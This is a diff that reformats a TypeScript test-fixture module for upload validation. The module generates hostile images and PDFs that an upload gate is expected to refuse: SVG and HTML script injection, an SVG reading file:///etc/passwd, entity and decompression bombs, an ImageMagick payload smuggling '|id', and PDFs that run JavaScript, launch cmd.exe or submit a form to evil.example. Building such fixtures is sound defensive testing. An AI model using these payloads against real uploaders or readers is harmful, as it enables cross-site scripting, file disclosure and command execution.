@@ -5,8 +5,13 @@ import sharp from "sharp";
 
 export const SCRIPT = "<script>alert(document.domain)</script>";
 
-export async function goodImage(format: "jpeg" | "png" | "gif" | "webp", size: { width: number; height: number } = { width: 64, height: 48 }): Promise<Buffer> {
-  return sharp({ create: { ...size, channels: 3, background: { r: 220, g: 60, b: 30 } } }).toFormat(format).toBuffer();
+export async function goodImage(
+  format: "jpeg" | "png" | "gif" | "webp",
+  size: { width: number; height: number } = { width: 64, height: 48 },
+): Promise<Buffer> {
+  return sharp({ create: { ...size, channels: 3, background: { r: 220, g: 60, b: 30 } } })
+    .toFormat(format)
+    .toBuffer();
 }
 
 /** A photo as a phone makes it: with GPS, camera, comment and a turned orientation. */
@@ -22,7 +27,9 @@ export async function phonePhoto(): Promise<Buffer> {
 }
 
 export function svg(content = SCRIPT): Buffer {
-  return Buffer.from(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">${content}<rect width="10" height="10"/></svg>`);
+  return Buffer.from(
+    `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">${content}<rect width="10" height="10"/></svg>`,
+  );
 }
 
 function chunk(type: string, data: Buffer): Buffer {
@@ -49,7 +56,11 @@ export function pngClaiming(width: number, height: number, pixels: Buffer = defl
 export async function pngWithText(text: string): Promise<Buffer> {
   const png = await goodImage("png");
   const end = png.length - 12;
-  return Buffer.concat([png.subarray(0, end), chunk("tEXt", Buffer.from(`Comment\0${text}`, "latin1")), png.subarray(end)]);
+  return Buffer.concat([
+    png.subarray(0, end),
+    chunk("tEXt", Buffer.from(`Comment\0${text}`, "latin1")),
+    png.subarray(end),
+  ]);
 }
 
 /** The smallest PDF that readers open, with anything put into its catalogue or appended as objects. */
@@ -62,7 +73,10 @@ export function pdf(options: { catalog?: string; objects?: string; trailer?: str
     `4 0 obj\n<</Producer(test)/Keywords(${options.info ?? ""})>>\nendobj`,
     ...(options.objects === undefined ? [] : [options.objects]),
   ].join("\n");
-  return Buffer.from(`${body}\nxref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 5/Root 1 0 R/Info 4 0 R${options.trailer ?? ""}>>\nstartxref\n${body.length + 1}\n%%EOF\n`, "latin1");
+  return Buffer.from(
+    `${body}\nxref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 5/Root 1 0 R/Info 4 0 R${options.trailer ?? ""}>>\nstartxref\n${body.length + 1}\n%%EOF\n`,
+    "latin1",
+  );
 }
 
 /** Objects hidden in a compressed object stream. */
@@ -93,13 +107,33 @@ export interface HostileFile {
 
 /** No door for images may keep one of these: each is refused. */
 export async function hostileImages(): Promise<HostileFile[]> {
-  const [jpeg, png, gif, webp] = await Promise.all([goodImage("jpeg"), goodImage("png"), goodImage("gif"), goodImage("webp")]);
-  const file = (what: string, name: string, type: string, bytes: Buffer | string): HostileFile => ({ what, name, type, bytes: Buffer.from(bytes as string, "latin1") });
+  const [jpeg, png, gif, webp] = await Promise.all([
+    goodImage("jpeg"),
+    goodImage("png"),
+    goodImage("gif"),
+    goodImage("webp"),
+  ]);
+  const file = (what: string, name: string, type: string, bytes: Buffer | string): HostileFile => ({
+    what,
+    name,
+    type,
+    bytes: Buffer.from(bytes as string, "latin1"),
+  });
   return [
     file("an SVG with a script", "logo.svg", "image/svg+xml", svg()),
     file("an SVG that says it is a PNG", "logo.png", "image/png", svg()),
-    file("an SVG that loads a file of the server", "logo.svg", "image/svg+xml", svg('<image href="file:///etc/passwd"/>')),
-    file("an SVG with an entity bomb", "logo.svg", "image/svg+xml", `<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>${svg("&b;").toString()}`),
+    file(
+      "an SVG that loads a file of the server",
+      "logo.svg",
+      "image/svg+xml",
+      svg('<image href="file:///etc/passwd"/>'),
+    ),
+    file(
+      "an SVG with an entity bomb",
+      "logo.svg",
+      "image/svg+xml",
+      `<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>${svg("&b;").toString()}`,
+    ),
     file("an SVG after a byte order mark", "logo.svg", "image/svg+xml", `\xEF\xBB\xBF${svg().toString()}`),
     file("HTML named .png", "a.png", "image/png", `<!doctype html>${SCRIPT}`),
     file("a script named .jpg", "a.jpg", "image/jpeg", "alert(1)"),
@@ -114,7 +148,12 @@ export async function hostileImages(): Promise<HostileFile[]> {
     file("a PNG of 2^31 by 2^31", "a.png", "image/png", pngClaiming(0x7fffffff, 0x7fffffff)),
     file("a PNG without a pixel", "a.png", "image/png", pngClaiming(0, 10)),
     file("a PNG with missing rows", "a.png", "image/png", pngClaiming(400, 400)),
-    file("a PNG whose pixels are no deflate stream", "a.png", "image/png", pngClaiming(10, 10, Buffer.from("not deflated"))),
+    file(
+      "a PNG whose pixels are no deflate stream",
+      "a.png",
+      "image/png",
+      pngClaiming(10, 10, Buffer.from("not deflated")),
+    ),
     file("a JPEG cut in the middle", "a.jpg", "image/jpeg", (await noise("jpeg")).subarray(0, 3000)),
     file("a PNG cut in the middle", "a.png", "image/png", (await noise("png")).subarray(0, 3000)),
     file("a WebP cut in the middle", "a.webp", "image/webp", (await noise("webp")).subarray(0, 3000)),
@@ -123,10 +162,20 @@ export async function hostileImages(): Promise<HostileFile[]> {
     file("a PNG cut after its start", "a.png", "image/png", png.subarray(0, 8)),
     file("one byte", "a.png", "image/png", "\x89"),
     file("nothing", "a.png", "image/png", ""),
-    file("5 MB and one byte", "a.jpg", "image/jpeg", Buffer.concat([jpeg, Buffer.alloc(5 * 1024 * 1024 + 1 - jpeg.length)])),
+    file(
+      "5 MB and one byte",
+      "a.jpg",
+      "image/jpeg",
+      Buffer.concat([jpeg, Buffer.alloc(5 * 1024 * 1024 + 1 - jpeg.length)]),
+    ),
     file("only NULs", "a.png", "image/png", Buffer.alloc(2000)),
     file("a good PNG behind one space", "a.png", "image/png", Buffer.concat([Buffer.from(" "), png])),
-    file("a good JPEG behind an ID3 tag", "a.jpg", "image/jpeg", Buffer.concat([Buffer.from("ID3\x03\0\0\0\0\0\0", "latin1"), jpeg])),
+    file(
+      "a good JPEG behind an ID3 tag",
+      "a.jpg",
+      "image/jpeg",
+      Buffer.concat([Buffer.from("ID3\x03\0\0\0\0\0\0", "latin1"), jpeg]),
+    ),
     file("a good GIF behind HTML", "a.gif", "image/gif", Buffer.concat([Buffer.from(SCRIPT), gif])),
     file("a data URI in place of a file", "a.png", "image/png", `data:image/png;base64,${png.toString("base64")}`),
     file("a data URI that lies", "a.png", "image/png", `data:image/png;base64,${svg().toString("base64")}`),
@@ -137,16 +186,31 @@ export async function hostileImages(): Promise<HostileFile[]> {
     file("an ELF binary", "a.png", "image/png", "\x7FELF\x02\x01\x01\0\0\0"),
     file("a Windows binary", "a.jpg", "image/jpeg", "MZ\x90\0\x03\0\0\0"),
     file("PostScript", "a.jpg", "image/jpeg", "%!PS-Adobe-3.0\n(x) run"),
-    file("an ImageMagick script", "a.jpg", "image/jpeg", "push graphic-context\nimage over 0,0 0,0 'https://127.0.0.1/x.php?\"|id\"'"),
+    file(
+      "an ImageMagick script",
+      "a.jpg",
+      "image/jpeg",
+      "push graphic-context\nimage over 0,0 0,0 'https://127.0.0.1/x.php?\"|id\"'",
+    ),
     file("a BMP", "a.bmp", "image/bmp", "BM\x46\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0"),
     file("an icon", "favicon.ico", "image/x-icon", "\0\0\x01\0\x01\0\x10\x10\0\0"),
-    file("a RIFF that is sound", "a.webp", "image/webp", Buffer.concat([Buffer.from("RIFF\x24\0\0\0WAVEfmt ", "latin1"), webp])),
+    file(
+      "a RIFF that is sound",
+      "a.webp",
+      "image/webp",
+      Buffer.concat([Buffer.from("RIFF\x24\0\0\0WAVEfmt ", "latin1"), webp]),
+    ),
   ];
 }
 
 /** These decode: what is kept of them must be nothing but pixels. */
 export async function disguisedImages(): Promise<HostileFile[]> {
-  const [jpeg, png, gif, webp] = await Promise.all([goodImage("jpeg"), goodImage("png"), goodImage("gif"), goodImage("webp")]);
+  const [jpeg, png, gif, webp] = await Promise.all([
+    goodImage("jpeg"),
+    goodImage("png"),
+    goodImage("gif"),
+    goodImage("webp"),
+  ]);
   const file = (what: string, name: string, bytes: Buffer): HostileFile => ({ what, name, type: "image/png", bytes });
   return [
     file("a script after the end of a JPEG", "a.jpg", Buffer.concat([jpeg, Buffer.from(SCRIPT)])),
@@ -166,20 +230,40 @@ export async function disguisedImages(): Promise<HostileFile[]> {
 
 /** No door for documents may keep one of these. */
 export async function hostileDocuments(): Promise<HostileFile[]> {
-  const file = (what: string, bytes: Buffer | string, name = "certificate.pdf"): HostileFile => ({ what, name, type: "application/pdf", bytes: Buffer.from(bytes as string, "latin1") });
+  const file = (what: string, bytes: Buffer | string, name = "certificate.pdf"): HostileFile => ({
+    what,
+    name,
+    type: "application/pdf",
+    bytes: Buffer.from(bytes as string, "latin1"),
+  });
   const js = "9 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj";
   return [
     file("a PDF that runs JavaScript when opened", pdf({ catalog: "/OpenAction<</S/JavaScript/JS(app.alert(1))>>" })),
     file("a PDF with JavaScript in an object", pdf({ catalog: "/OpenAction 9 0 R", objects: js })),
     file("a PDF with JavaScript spelled in hex", pdf({ catalog: "/OpenAction<</S/J#61v#61Script/JS(app.alert(1))>>" })),
-    file("a PDF with JavaScript after a comment", pdf({ catalog: "/OpenAction<</S%hidden\n/JavaScript/JS(app.alert(1))>>" })),
+    file(
+      "a PDF with JavaScript after a comment",
+      pdf({ catalog: "/OpenAction<</S%hidden\n/JavaScript/JS(app.alert(1))>>" }),
+    ),
     file("a PDF with a tree of scripts", pdf({ catalog: "/Names<</Dests 5 0 R/JavaScript 6 0 R>>" })),
-    file("a PDF with JavaScript in a packed object", pdf({ objects: packedPdfObjects("8 0 <</S/JavaScript/JS(app.alert(1))>>") })),
-    file("a PDF with JavaScript in an unreadable packed object", pdf({ objects: packedPdfObjects("not deflated", { raw: true }) })),
-    file("a PDF with doubly packed objects", pdf({ objects: packedPdfObjects("8 0 <<>>", { filter: "[/ASCIIHexDecode/FlateDecode]" }) })),
+    file(
+      "a PDF with JavaScript in a packed object",
+      pdf({ objects: packedPdfObjects("8 0 <</S/JavaScript/JS(app.alert(1))>>") }),
+    ),
+    file(
+      "a PDF with JavaScript in an unreadable packed object",
+      pdf({ objects: packedPdfObjects("not deflated", { raw: true }) }),
+    ),
+    file(
+      "a PDF with doubly packed objects",
+      pdf({ objects: packedPdfObjects("8 0 <<>>", { filter: "[/ASCIIHexDecode/FlateDecode]" }) }),
+    ),
     file("a PDF with a bomb for a packed object", pdf({ objects: packedPdfObjects(" ".repeat(60 * 1024 * 1024)) })),
     file("a PDF that starts a program", pdf({ catalog: "/OpenAction<</S/Launch/F(cmd.exe)>>" })),
-    file("a PDF with a file inside", pdf({ catalog: "/Names<</EmbeddedFiles 9 0 R>>", objects: "9 0 obj\n<</Type/EmbeddedFile>>\nendobj" })),
+    file(
+      "a PDF with a file inside",
+      pdf({ catalog: "/Names<</EmbeddedFiles 9 0 R>>", objects: "9 0 obj\n<</Type/EmbeddedFile>>\nendobj" }),
+    ),
     file("a PDF with a form of scripts", pdf({ catalog: "/AcroForm<</SigFlags 3/XFA 9 0 R>>" })),
     file("a PDF that sends a form", pdf({ catalog: "/OpenAction<</S/SubmitForm/F(https://evil.example)>>" })),
     file("a PDF with rich media", pdf({ objects: "9 0 obj\n<</Type/Annot/Subtype/RichMedia>>\nendobj" })),
@@ -204,6 +288,10 @@ export async function hostileDocuments(): Promise<HostileFile[]> {
 /** An image that does not compress, so that cutting it takes pixels away. */
 export async function noise(format: "jpeg" | "png" | "gif" | "webp"): Promise<Buffer> {
   const side = 128;
-  const pixels = Buffer.from(Array.from({ length: side * side * 3 }, (_value, at) => (at * 7919 + ((at * at) % 251) * 31) % 256));
-  return sharp(pixels, { raw: { width: side, height: side, channels: 3 } }).toFormat(format).toBuffer();
+  const pixels = Buffer.from(
+    Array.from({ length: side * side * 3 }, (_value, at) => (at * 7919 + ((at * at) % 251) * 31) % 256),
+  );
+  return sharp(pixels, { raw: { width: side, height: side, channels: 3 } })
+    .toFormat(format)
+    .toBuffer();
 }
